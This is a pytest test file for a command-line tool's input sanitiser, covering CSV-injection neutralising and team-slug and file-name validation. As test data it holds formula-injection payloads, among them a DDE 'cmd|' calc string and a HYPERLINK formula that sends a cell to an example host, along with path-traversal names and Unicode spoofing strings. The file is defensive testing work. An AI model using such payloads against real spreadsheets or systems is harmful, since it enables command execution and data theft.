"""Tests for CSV-injection neutralising and safe team and file names."""

from __future__ import annotations

import datetime as dt
import re
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from maatwerk_cli.core.errors import InputError
from maatwerk_cli.core.names import (
    FORMULA_STARTS,
    WINDOWS_DEVICES,
    check_file_name,
    check_slug,
    neutralise_cell,
    neutralise_row,
)

SLUG_RE = re.compile(r"[a-z0-9](?:[a-z0-9-]{0,38}[a-z0-9])?")

# Cells ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+2",
        '=HYPERLINK("http://example.invalid/?d="&A1,"klik")',
        "+31 6 12345678",
        "-12.50",  # text, not a number: the renderer passes numbers as numbers
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        "=",
    ],
)
def test_dangerous_text_gets_a_quote(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "huur maart", "'=1+2", " =1+2", "1+2", "a=b", "€ 12,50", "\n=1", "H-7KXM4P"]
)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert neutralise_cell(text) is text


@pytest.mark.parametrize(
    "value",
    [
        0,
        -12,
        12.5,
        -0.5,
        Decimal("-12.50"),
        Decimal("12.50"),
        True,
        False,
        None,
        dt.date(2025, 3, 14),
    ],
)
def test_non_text_is_returned_untouched(value: object) -> None:
    assert neutralise_cell(value) is value


def test_neutralise_row() -> None:
    row = ["2025-03-14", "=1+2", Decimal("-12.50"), -3, None, "-huur", "noord"]
    assert neutralise_row(row) == [
        "2025-03-14",
        "'=1+2",
        Decimal("-12.50"),
        -3,
        None,
        "'-huur",
        "noord",
    ]
    assert neutralise_row(()) == []


@given(st.text(max_size=30))
def test_neutralised_text_never_starts_a_formula(text: str) -> None:
    result = neutralise_cell(text)
    assert isinstance(result, str)
    assert not result.startswith(FORMULA_STARTS)
    assert result in (text, "'" + text)


# Team slugs ---------------------------------------------------------------------------


@pytest.mark.parametrize("slug", ["noord", "west-2", "a", "0", "2025", "team-a-b", "a" * 40, "a--b"])
def test_good_slugs(slug: str) -> None:
    assert check_slug(slug) == slug
    assert check_slug(slug, existing=[slug, "zuid"]) == slug


@pytest.mark.parametrize(
    ("slug", "message"),
    [
        (
            "Noord",
            "team name 'Noord' is not allowed: use lowercase letters, digits and hyphens, like noord",
        ),
        ("WEST-2", "like west-2"),
        ("", "it is empty"),
        ("..", "must not contain .."),
        ("../etc", "must not contain / or \\"),
        ("..\\etc", "must not contain / or \\"),
        ("noord/zuid", "must not contain / or \\"),
        ("noord\\zuid", "must not contain / or \\"),
        ("a..b", "must not contain .."),
        ("a" * 41, "it is 41 characters long, the limit is 40"),
        ("con", "reserved device name on Windows"),
        ("CON", "reserved device name on Windows"),
        ("Nul", "reserved device name on Windows"),
        ("aux", "reserved device name on Windows"),
        ("prn", "reserved device name on Windows"),
        ("com1", "reserved device name on Windows"),
        ("COM9", "reserved device name on Windows"),
        ("lpt1", "reserved device name on Windows"),
        ("lpt9", "reserved device name on Windows"),
        ("com0", "reserved device name on Windows"),
        ("con.txt", "reserved device name on Windows"),
        ("nul.toml", "reserved device name on Windows"),
        ("-noord", "must not start or end with a hyphen"),
        ("noord-", "must not start or end with a hyphen"),
        ("-", "must not start or end with a hyphen"),
        ("noord\x00", "control character"),
        ("noord\n", "control character"),
        ("\x1b[31mnoord", "control character"),
        ("noord\x7f", "control character"),
        ("no\u0085ord", "control character"),
        ("n\u043e\u043erd", "U+043E CYRILLIC SMALL LETTER O"),  # Cyrillic o's
        ("\uff4eoord", "U+FF4E FULLWIDTH LATIN SMALL LETTER N"),
        ("noord\u200b", "U+200B ZERO WIDTH SPACE"),
        ("caf\u00e9", "U+00E9"),
        ("noord ", "it contains a space"),
        ("no ord", "it contains a space"),
        ("noord_2", "it contains '_'"),
        ("noord.2", "it contains '.'"),
        ("noord:zuid", "it contains ':'"),
        ("*", "it contains '*'"),
    ],
)
def test_hostile_slugs(slug: str, message: str) -> None:
    with pytest.raises(InputError) as caught:
        check_slug(slug)
    text = str(caught.value)
    assert message in text
    assert text.isprintable() and text.isascii()  # one clean line, whatever was typed
    assert text.startswith("team name ")


def test_device_names_refused_in_any_case() -> None:
    for device in ("con", "prn", "aux", "nul", *(f"com{i}" for i in range(1, 10))):
        for variant in (device, device.upper(), device.capitalize(), f"{device}.txt"):
            with pytest.raises(InputError, match="reserved device name"):
                check_slug(variant)
    for i in range(1, 10):
        with pytest.raises(InputError, match="reserved device name"):
            check_slug(f"LPT{i}")


def test_device_name_as_part_is_fine() -> None:
    assert check_slug("con-west") == "con-west"
    assert check_slug("console") == "console"
    assert check_slug("com10") == "com10"


def test_slug_differing_only_in_case_from_an_existing_one() -> None:
    with pytest.raises(InputError, match="differs only in case from the existing team 'Noord'"):
        check_slug("noord", existing=["zuid", "Noord"])
    assert check_slug("noord", existing=["noord"]) == "noord"  # the same team
    assert check_slug("noord", existing=["noord-2", "zuid"]) == "noord"


def test_long_slug_is_cut_in_the_message() -> None:
    with pytest.raises(InputError) as caught:
        check_slug("x" * 500)
    assert len(str(caught.value)) < 200


@settings(max_examples=300)
@given(st.text(max_size=45))
def test_accepted_slugs_match_the_rule(slug: str) -> None:
    try:
        result = check_slug(slug)
    except InputError as error:
        assert "\n" not in str(error)
        return
    assert result == slug
    assert SLUG_RE.fullmatch(slug)
    assert slug not in WINDOWS_DEVICES


@given(st.from_regex(SLUG_RE, fullmatch=True))
def test_rule_matching_slugs_are_accepted(slug: str) -> None:
    if slug in WINDOWS_DEVICES:
        with pytest.raises(InputError):
            check_slug(slug)
    else:
        assert check_slug(slug) == slug


# File names ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "export-2025-q1",
        "Export_2025.csv",
        "rapport maart 2025",
        "a",
        "x" * 100,
        "v1.2.3",
        "x_",
        "2025",
    ],
)
def test_good_file_names(name: str) -> None:
    assert check_file_name(name) == name


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("", "it is empty"),
        ("..", "must not contain .."),
        ("../etc/passwd", "must not contain / or \\"),
        ("..\\boot.ini", "must not contain / or \\"),
        ("a/b", "must not contain / or \\"),
        ("/tmp/x", "must not contain / or \\"),
        ("C:\\x", "must not contain / or \\"),
        ("C:x", "it contains ':'"),
        ("data:stream", "it contains ':'"),
        (".hidden", "must start with a letter or digit"),
        ("-rf", "must start with a letter or digit"),
        (" export", "must start with a letter or digit"),
        ("export.", "must not end in a dot or space"),
        ("export ", "must not end in a dot or space"),
        ("nul", "reserved device name"),
        ("NUL.csv", "reserved device name"),
        ("con .csv", "reserved device name"),
        ("Com1.xlsx", "reserved device name"),
        ("lpt9.tar.gz", "reserved device name"),
        ("aux", "reserved device name"),
        ("a\x00b", "control character"),
        ("tab\tname", "control character"),
        ("x" * 101, "it is 101 characters long, the limit is 100"),
        ("overzicht-caf\u00e9", "U+00E9 LATIN SMALL LETTER E WITH ACUTE"),
        ("export\u202ecsv.exe", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("a*b", "it contains '*'"),
        ("a?b", "it contains '?'"),
        ('a"b', "it contains '\"'"),
        ("a|b", "it contains '|'"),
        ("a<b>", "it contains '<'"),
    ],
)
def test_hostile_file_names(name: str, message: str) -> None:
    with pytest.raises(InputError) as caught:
        check_file_name(name)
    text = str(caught.value)
    assert message in text
    assert text.startswith("file name ")
    assert text.isprintable() and text.isascii()


def test_file_name_message_names_the_value() -> None:
    with pytest.raises(InputError, match=r"^export name '\.\./x' is not allowed"):
        check_file_name("../x", what="export name")


@settings(max_examples=300)
@given(st.text(max_size=110))
def test_accepted_file_names_stay_in_their_folder(name: str) -> None:
    try:
        result = check_file_name(name)
    except InputError as error:
        assert "\n" not in str(error)
        return
    assert result == name
    assert name.isascii() and name.isprintable()
    assert "/" not in name and "\\" not in name and ".." not in name
    assert 0 < len(name) <= 100
    assert name[0].isalnum() and not name.endswith((".", " "))
    assert name.split(".")[0].strip().lower() not in WINDOWS_DEVICES
